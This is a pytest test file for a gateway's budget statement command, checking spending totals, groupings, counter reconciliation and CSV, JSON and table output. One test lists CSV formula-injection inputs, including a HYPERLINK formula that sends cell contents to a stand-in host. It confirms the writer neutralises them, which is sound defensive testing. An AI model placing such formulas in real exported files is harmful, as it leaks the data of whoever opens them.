"""`gearshift budget statement`: exact, up and down, in three formats, beside the store's counters."""

import asyncio
import csv
import io
import json
from collections.abc import Iterator
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import orjson
import pytest
import redis
from click.testing import Result
from counters import with_spent
from crashing import kill
from rig import tree
from test_log_command import DECISION, OUTCOME
from typer.testing import CliRunner

from router.commands.budget import command
from router.commands.statement_formats import Told, write
from router.config.budgets import windows_of
from router.config.load import load_config
from router.directory.directory import Directory
from router.statement.sums import Statement, Sums
from router.store.archive import archive_once
from router.store.base import End, Start
from router.store.embedded import EmbeddedValkey
from router.store.keys import scope_of
from router.store.ledger import Hold, tenant_account
from router.store.recovery import make_stub
from router.store.valkey import StoreOptions, ValkeyStore

BOUND = 10**12
# Tenant, key, end user, tags, status, nano-USD.
REQUESTS: list[tuple[str, str, str | None, dict[str, str], str, int | None]] = [
    ("t", "k1", "hmac:a", {"team": "x"}, "ok", 1_000_000_001),
    ("t", "k2", None, {}, "cancelled", 20),
    ("u", "k3", "hmac:b", {"team": "y"}, "ok", 300),
    ("u", "k3", "hmac:b", {"team": "x"}, "upstream_cut", 4_000),
]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    tenants = {
        "t": {"organisation": "acme", "budgets": [{"per": "day", "usd": 5000}]},
        "u": {"organisation": "acme", "keys": ["key-of-the-other"]},
    }
    shared = {"organisations": {"acme": {"budgets": [{"per": "day", "usd": 9000}, {"per": "month", "usd": 9000}]}}}
    path = tmp_path / "gearshift.yaml"
    path.write_text(json.dumps(tree(tenants=tenants, store={"dir": str(tmp_path / "data")}, **shared)))
    return path


async def spend(url: str, config: Path, directory: Path) -> None:
    """The first two requests are archived, the rest live, and one is left open."""
    told = load_config(config)
    store = ValkeyStore(url, StoreOptions(spool_dir=directory / "spool"))
    await store.start()
    for place, (tenant, key, user, tags, status, cost) in enumerate([*REQUESTS, ("t", "k1", None, {}, "", None)]):
        ids = {"request_id": f"r{place}", "decision_id": f"d{place}", "tenant": tenant}
        row = replace(DECISION, **ids, key_id=key, end_user=user, tags=tags)
        hold = Hold(BOUND, windows_of(told, tenant, told.tenants[tenant]))
        await store.begin(Start(f"r{place}", "acme", make_stub(row), orjson.dumps(asdict(row)), b"\0\0\0\0", hold))
        if status:
            ended = orjson.dumps(asdict(replace(OUTCOME, **ids, status=status, nano_usd=cost)))
            await store.settle(End(f"r{place}", "acme", ended, f"d{place}", tenant, reserved=True, nano_usd=cost))
        if place == 1:
            await asyncio.to_thread(archive_once, url, directory)
    await store.aclose()


@pytest.fixture
def spent(config: Path, tmp_path: Path) -> Iterator[EmbeddedValkey]:
    """A gateway's store with four entries and an open request, running."""
    server = EmbeddedValkey(tmp_path / "data")
    server.start()
    asyncio.run(spend(server.url, config, tmp_path / "data"))
    yield server
    server.stop()


def stated(config: Path, *more: str) -> Result:
    return CliRunner().invoke(command, ["statement", "--config", str(config), *more])


def plain(config: Path, *more: str) -> Any:
    result = stated(config, "--format", "json", *more)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_the_sums_are_exact_and_the_total_is_that_of_the_entries(config: Path, spent: EmbeddedValkey) -> None:
    found = plain(config)
    assert [(each["tenant"], each["requests"], each["nano_usd"]) for each in found["groups"]] == [
        ("t", 2, 1_000_000_021),
        ("u", 2, 4_300),
    ]
    total = found["total"]
    assert (total["requests"], total["nano_usd"], total["usd"]) == (4, 1_000_004_321, "1.000004321")
    assert (total["input_tokens"], total["cached_input_tokens"], total["output_tokens"]) == (120, 4, 20)
    assert (total["failed"], total["failed_nano_usd"]) == (1, 4_000)
    assert (total["cancelled"], total["cancelled_usd"]) == (1, "0.000000020")
    assert (found["open_requests"], total["unknown"], found["windows"]) == (1, 0, [])


@pytest.mark.parametrize(
    ("by", "groups"),
    [
        (["key"], {("k1",): 1_000_000_001, ("k2",): 20, ("k3",): 4_300}),
        (["end_user"], {(None,): 20, ("hmac:a",): 1_000_000_001, ("hmac:b",): 4_300}),
        (["tag:team"], {(None,): 20, ("x",): 1_000_004_001, ("y",): 300}),
        (["tenant", "model"], {("t", "b"): 1_000_000_021, ("u", "b"): 4_300}),
    ],
)
def test_entries_are_divided_as_asked(
    config: Path, spent: EmbeddedValkey, by: list[str], groups: dict[tuple[str | None, ...], int]
) -> None:
    found = plain(config, *(part for each in by for part in ("--by", each)))
    assert {tuple(each[name] for name in by): each["nano_usd"] for each in found["groups"]} == groups
    assert found["total"]["nano_usd"] == sum(groups.values())


def test_what_was_set_aside_and_lost_is_an_entry_of_its_tenant(config: Path, spent: EmbeddedValkey) -> None:
    told = load_config(config)
    windows = windows_of(told, "u", told.tenants["u"])

    async def lose() -> None:
        options = StoreOptions(spool_dir=spent.directory / "spool", owner_ttl_s=0)
        lost, heir = ValkeyStore(spent.url, options, name="lost"), ValkeyStore(spent.url, options, name="heir")
        await lost.start()
        await lost.keep_slices(lambda: {("acme", "u"): Hold(5_000, windows)})
        await kill(lost)
        await heir.start()
        await heir.aclose()

    asyncio.run(lose())
    found = plain(config, "--by", "tenant", "--by", "arm", "--window", "day")
    groups = {(each["tenant"], each["arm"]): each["nano_usd"] for each in found["groups"]}
    assert groups["u", ""] == 5_000
    assert found["total"]["failed_nano_usd"] == 9_000 + BOUND, "with the open request, whose owner is dead too"
    assert [each["difference_nano_usd"] for each in found["windows"]] == [0, 0]


def test_a_window_agrees_with_the_counters_up_and_down_and_after_a_crash(config: Path, spent: EmbeddedValkey) -> None:
    up = plain(config, "--window", "day")
    assert [(each["owner"], each["entries_nano_usd"], each["counter_nano_usd"]) for each in up["windows"]] == [
        ("tenant 't'", 1_000_000_021, 1_000_000_021),
        ("organisation 'acme'", 1_000_004_321, 1_000_004_321),
    ]
    (month,) = plain(config, "--window", "month", "--tenant", "u")["windows"]
    assert (month["owner"], month["difference_nano_usd"]) == ("organisation 'acme'", 0)
    spent.stop()  # nobody will end what is open: its whole reservation is charged, and its entry says so
    down = plain(config, "--window", "day")
    assert [each["counter_nano_usd"] for each in down["windows"]] == [BOUND + 1_000_000_021, BOUND + 1_000_004_321]
    assert [each["difference_nano_usd"] for each in down["windows"]] == [0, 0]
    assert down["total"]["unknown"] == 0


def test_the_windows_of_a_tenant_that_the_store_keeps_are_compared_too(config: Path, spent: EmbeddedValkey) -> None:
    with redis.Redis(unix_socket_path=str(spent.socket)) as client:
        directory = Directory(client, config=load_config(config), secret=b"s" * 32, by="cli:test")
        directory.create_tenant("kept", {"organisation": "acme", "budgets": [{"per": "day", "usd": 1}]})
    owners = [each["owner"] for each in plain(config, "--window", "day")["windows"]]
    assert "tenant 'kept'" in owners


@pytest.mark.parametrize(("by", "told"), [(-1, "more than the store counted"), (1, "entries are missing from the log")])
def test_a_counter_that_something_else_changed_is_told(config: Path, spent: EmbeddedValkey, by: int, told: str) -> None:
    with redis.Redis(unix_socket_path=str(spent.socket)) as client:
        key, account = scope_of("acme").now, tenant_account("t")
        client.hset(key, account, with_spent(client.hget(key, account), "day", by=by))
    result = stated(config, "--window", "day")
    assert result.exit_code == 1
    assert "DIFFERENCE: tenant 't'" in result.stderr
    assert told in result.stderr
    assert "organisation 'acme', day" in result.stdout  # which still agrees


def test_csv_has_every_sum_and_a_line_for_the_total(config: Path, spent: EmbeddedValkey) -> None:
    result = stated(config, "--format", "csv", "--by", "key", "--by", "end_user")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(row["line"], row["key"], row["end_user"]) for row in rows] == [
        ("group", "k1", "hmac:a"), ("group", "k2", ""), ("group", "k3", "hmac:b"), ("total", "", ""),
    ]  # fmt: skip
    assert sum(int(row["nano_usd"]) for row in rows[:-1]) == int(rows[-1]["nano_usd"]) == 1_000_004_321
    assert rows[-1]["usd"] == "1.000004321"


FORMULA = '=HYPERLINK("https://x.example/?"&A1,"a")'


@pytest.mark.parametrize(("name", "cell"), [
    (FORMULA, f"'{FORMULA}"), ("+1+2", "'+1+2"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\n=1", "'\n=1"), ("\r=1", "'\n=1"), ("a\r=1", "a\n=1"), ("a\r\n=1,=2", "a\n=1,=2"),
    ("a=1", "a=1"), ("'=1", "'=1"), ("2026-11-30", "2026-11-30"), ("", ""), (None, ""),
])  # fmt: skip
def test_a_csv_cell_of_a_clients_words_is_no_formula(
    capsys: pytest.CaptureFixture[str], name: str | None, cell: str
) -> None:
    found = Statement(("end_user", "tag:team"))
    found.groups[name, name] = Sums(requests=1, nano_usd=-5, cancelled_nano_usd=-5)
    write(Told(found, (None, None), (), ()), "csv")
    group, total = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
    assert (group["end_user"], group["tag:team"]) == (cell, cell)
    assert (total["end_user"], total["tag:team"]) == ("", "")
    for row in (group, total):
        assert (row["nano_usd"], row["usd"]) == ("-5", "-0.000000005"), "a number stays one"
    write(Told(found, (None, None), (), ()), "json")
    assert json.loads(capsys.readouterr().out)["groups"][0]["end_user"] == name, "JSON is for programs: as it came"


def test_people_get_a_table_with_a_total(config: Path, spent: EmbeddedValkey) -> None:
    result = stated(config)
    assert result.exit_code == 0
    assert "1.000000021" in result.stdout
    assert (
        next(line for line in result.stdout.splitlines() if line.strip().startswith("total")).count("1.000004321") == 1
    )
    assert "1 requests have not ended yet" in result.stdout


def test_time_and_tenants_bound_it(config: Path, spent: EmbeddedValkey) -> None:
    assert plain(config, "--until", "1h")["total"]["requests"] == 0
    assert plain(config, "--since", "1h", "--tenant", "u")["total"]["nano_usd"] == 4_300
    assert plain(config, "--since", "9e9")["total"]["requests"] == 0


def test_without_a_configuration_the_log_is_read_where_it_lies(spent: EmbeddedValkey) -> None:
    result = CliRunner().invoke(command, ["statement", "--store-dir", str(spent.directory), "--format", "csv"])
    assert result.stdout.splitlines()[-1].startswith("total,,4,")


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["--by", "week"], "expected one of organisation, tenant, key"),
        (["--by", "tag:"], "tag:NAME"),
        (["--window", "day", "--since", "1h"], "goes with neither --since nor"),
        (["--since", "soon"], "expected 90s"),
    ],
)
def test_what_cannot_be_asked_is_refused(tmp_path: Path, arguments: list[str], told: str) -> None:
    result = CliRunner().invoke(
        command, ["statement", "--store-dir", str(tmp_path), *arguments], env={"COLUMNS": "300", "TERM": "dumb"}
    )
    assert result.exit_code == 2
    assert told in result.stderr


def test_a_window_that_does_not_exist_is_refused(config: Path, spent: EmbeddedValkey) -> None:
    result = stated(config, "--window", "2025-02-30")
    assert result.exit_code == 2
    assert "2025-02-30" in result.stderr
